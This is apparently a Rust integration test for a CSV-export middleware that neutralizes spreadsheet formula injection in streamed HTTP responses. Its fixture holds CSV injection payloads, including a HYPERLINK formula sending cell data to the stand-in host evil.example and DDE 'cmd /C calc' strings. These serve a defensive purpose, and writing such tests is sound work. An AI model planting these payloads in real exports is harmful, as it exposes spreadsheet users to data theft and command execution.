//! CsvExport over real HTTP: an axum server on 127.0.0.1 streaming exports through the layer.
#![cfg(feature = "csv")]

mod common;

use std::pin::Pin;
use std::sync::{Arc, Mutex};
use std::task::{Context, Poll};
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use bytes::Bytes;
use http_body::Frame;
use safeguard::csv::{Neutralizer, Strategy};
use safeguard::export::{CsvExportLayer, ExportSummary};
use tokio::sync::mpsc;

/// A body fed by a channel: chunks arrive over time, as from a database cursor.
struct ChannelBody(mpsc::Receiver<Bytes>);

impl http_body::Body for ChannelBody {
    type Data = Bytes;
    type Error = std::convert::Infallible;

    fn poll_frame(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Self::Error>>> {
        self.0.poll_recv(cx).map(|c| c.map(|b| Ok(Frame::data(b))))
    }
}

const HOSTILE: &[u8] = b"id,name,comment\r\n\
1,alice,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\"\r\n\
2,bob,-12.50\r\n\
3,\"=cmd|' /C calc'!A0\",\" @SUM(1+1)*cmd|' /C calc'!A0\"\r\n\
4,\xef\xbc\x9d1+1,foo@example.org\r\n\
5,\"\t=1+1\",1-2\r\n\
6,\"unterminated,=1+1";

fn expected() -> &'static [u8] {
    b"id,name,comment\r\n\
1,alice,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\"\r\n\
2,bob,-12.50\r\n\
3,\"'=cmd|' /C calc'!A0\",\"' @SUM(1+1)*cmd|' /C calc'!A0\"\r\n\
4,\"'\xef\xbc\x9d1+1\",foo@example.org\r\n\
5,\"'\t=1+1\",1-2\r\n\
6,\"unterminated,=1+1\""
}

async fn streamed() -> Response {
    let (tx, rx) = mpsc::channel(4);
    tokio::spawn(async move {
        // 7-byte chunks: cells, quotes and CRLFs are cut everywhere
        for chunk in HOSTILE.chunks(7) {
            if tx.send(Bytes::copy_from_slice(chunk)).await.is_err() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(1)).await;
        }
    });
    (
        [(header::CONTENT_TYPE, "text/csv; charset=utf-8")],
        Body::new(ChannelBody(rx)),
    )
        .into_response()
}

fn with_headers(pairs: &[(&'static str, &'static str)], body: &'static [u8]) -> Response {
    let mut headers = HeaderMap::new();
    for (k, v) in pairs {
        headers.insert(*k, v.parse().expect("header value"));
    }
    (headers, body).into_response()
}

fn app(summaries: Arc<Mutex<Vec<ExportSummary>>>) -> Router {
    Router::new()
        .route("/export.csv", get(streamed))
        .route(
            "/fixed",
            get(|| async { with_headers(&[("content-type", "text/csv")], b"a,=1\n") }),
        )
        .route(
            "/tsv",
            get(|| async {
                with_headers(
                    &[("content-type", "text/tab-separated-values")],
                    b"a,b\t=1\n",
                )
            }),
        )
        .route(
            "/sep",
            get(|| async { with_headers(&[("content-type", "text/csv")], b"sep=;\r\na;@b,c\r\n") }),
        )
        .route(
            "/gzip",
            get(|| async {
                with_headers(
                    &[("content-type", "text/csv"), ("content-encoding", "gzip")],
                    b"\x1f\x8b",
                )
            }),
        )
        .route(
            "/partial",
            get(|| async {
                let mut res = with_headers(
                    &[
                        ("content-type", "text/csv"),
                        ("content-range", "bytes 4-8/100"),
                    ],
                    b"=1+1",
                );
                *res.status_mut() = StatusCode::PARTIAL_CONTENT;
                res
            }),
        )
        .route(
            "/attachment",
            get(|| async {
                with_headers(
                    &[
                        ("content-type", "application/octet-stream"),
                        ("content-disposition", "attachment; filename=\"report.csv\""),
                    ],
                    b"=1+1\n",
                )
            }),
        )
        .route(
            "/excel",
            get(|| async {
                with_headers(&[("content-type", "application/vnd.ms-excel")], b"@x\n")
            }),
        )
        .route(
            "/json",
            get(|| async { with_headers(&[("content-type", "application/json")], b"\"=1+1\"") }),
        )
        .layer(
            CsvExportLayer::new()
                .content_type("application/vnd.ms-excel")
                .on_end(move |s: &ExportSummary| summaries.lock().expect("lock").push(*s)),
        )
}

#[tokio::test]
async fn streamed_export_is_neutralized_over_http() {
    let summaries = Arc::new(Mutex::new(Vec::new()));
    let addr = common::serve(app(summaries.clone())).await;

    let reply = common::get(addr, "/export.csv", &[]).await;
    assert_eq!(reply.status, StatusCode::OK);
    assert_eq!(reply.headers["x-content-type-options"], "nosniff");
    assert!(reply.headers.get("content-length").is_none());
    assert_eq!(&reply.body[..], expected(), "{}", reply.text());

    // the csv crate reads the same 7 records, every cell inert
    let mut rdr = ::csv::ReaderBuilder::new()
        .flexible(true)
        .from_reader(&reply.body[..]);
    let nz = Neutralizer::new();
    let mut rows = 0;
    for rec in rdr.byte_records() {
        let rec = rec.expect("parses");
        assert!(rec.iter().all(|c| !nz.is_dangerous(c)));
        rows += 1;
    }
    assert_eq!(rows, 6);

    let s = summaries.lock().expect("lock").clone();
    assert_eq!(
        s,
        vec![ExportSummary {
            cells: 20,
            neutralized: 5,
            complete: true
        }]
    );
}

#[tokio::test]
async fn content_types_sep_lines_and_lengths() {
    let addr = common::serve(app(Arc::default())).await;

    let r = common::get(addr, "/fixed", &[]).await;
    assert_eq!(r.text(), "a,\"'=1\"\n");
    assert!(
        r.headers.get("content-length").is_none(),
        "stale length must go"
    );

    let r = common::get(addr, "/tsv", &[]).await;
    assert_eq!(r.text(), "\"a,b\"\t\"'=1\"\n");

    let r = common::get(addr, "/sep", &[]).await;
    assert_eq!(r.text(), "sep=;\r\na;\"'@b,c\"\r\n");

    let r = common::get(addr, "/attachment", &[]).await;
    assert_eq!(r.text(), "\"'=1+1\"\n");

    let r = common::get(addr, "/excel", &[]).await;
    assert_eq!(r.text(), "\"'@x\"\n");

    let r = common::get(addr, "/json", &[]).await;
    assert_eq!(r.text(), "\"=1+1\"");
    assert!(r.headers.get("x-content-type-options").is_none());
}

#[tokio::test]
async fn unreadable_exports_fail_closed() {
    let addr = common::serve(app(Arc::default())).await;
    for path in ["/gzip", "/partial"] {
        let r = common::get(addr, path, &[]).await;
        assert_eq!(r.status, StatusCode::INTERNAL_SERVER_ERROR, "{path}");
        assert_eq!(r.headers["content-type"], "application/problem+json");
        assert_eq!(r.json()["status"], 500);
        assert!(!r.text().contains("=1+1"));
    }
    // opted in: encoded bodies pass unchanged
    let app = Router::new()
        .route(
            "/gzip",
            get(|| async {
                with_headers(
                    &[("content-type", "text/csv"), ("content-encoding", "gzip")],
                    b"\x1f\x8b",
                )
            }),
        )
        .layer(CsvExportLayer::new().allow_encoded(true));
    let addr = common::serve(app).await;
    let r = common::get(addr, "/gzip", &[]).await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(&r.body[..], b"\x1f\x8b");
}

#[tokio::test]
async fn reject_strategy_never_completes_a_dangerous_export() {
    let app = Router::new()
        .route("/export.csv", get(streamed))
        .layer(CsvExportLayer::new().neutralizer(Neutralizer::new().strategy(Strategy::Reject)));
    let addr = common::serve(app).await;
    let raw = common::send_raw(addr, b"GET /export.csv HTTP/1.1\r\nhost: x\r\n\r\n").await;
    assert!(raw.starts_with("HTTP/1.1 200"), "{raw}");
    // the body stops before the first dangerous cell and the chunked stream is never terminated
    assert!(!raw.contains("HYPERLINK"), "{raw}");
    assert!(!raw.ends_with("0\r\n\r\n"), "{raw}");
}

#[tokio::test]
async fn count_is_sent_as_a_trailer() {
    let addr = common::serve(app(Arc::default())).await;
    let raw = common::send_raw(
        addr,
        b"GET /export.csv HTTP/1.1\r\nhost: x\r\nte: trailers\r\nconnection: close\r\n\r\n",
    )
    .await;
    let lower = raw.to_ascii_lowercase();
    assert!(lower.contains("trailer: x-csv-neutralized-cells"), "{raw}");
    assert!(
        lower.contains("\r\nx-csv-neutralized-cells: 5\r\n"),
        "{raw}"
    );
}
